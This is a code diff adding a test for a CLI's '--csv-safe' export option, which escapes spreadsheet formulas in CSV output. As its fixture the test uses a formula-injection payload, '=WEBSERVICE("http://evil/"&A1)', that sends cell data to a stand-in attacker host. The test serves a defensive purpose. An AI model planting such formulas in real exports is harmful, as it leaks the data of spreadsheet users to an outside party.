@@ -418,3 +418,14 @@ describe('kms serve', () => {
     }
   });
 });
+
+describe('export -f csv --csv-safe', () => {
+  const h = inProcessHome();
+  afterAll(h.cleanup);
+  it('neutralises spreadsheet formulas; without the flag the value is verbatim', async () => {
+    expect((await h.run(['put', 'sheet.cell', '=WEBSERVICE("http://evil/"&A1)'])).code).toBe(0);
+    expect((await h.run(['export', 'sheet.*', '-f', 'csv', '--csv-safe'])).stdout).toBe(`sheet.cell,"'=WEBSERVICE(""http://evil/""&A1)"\n`);
+    expect((await h.run(['getall', '-f', 'csv', '--csv-safe'])).stdout).toContain(`"'=WEBSERVICE(`);
+    expect((await h.run(['export', 'sheet.*', '-f', 'csv'])).stdout).toBe(`sheet.cell,"=WEBSERVICE(""http://evil/""&A1)"\n`);
+  });
+});
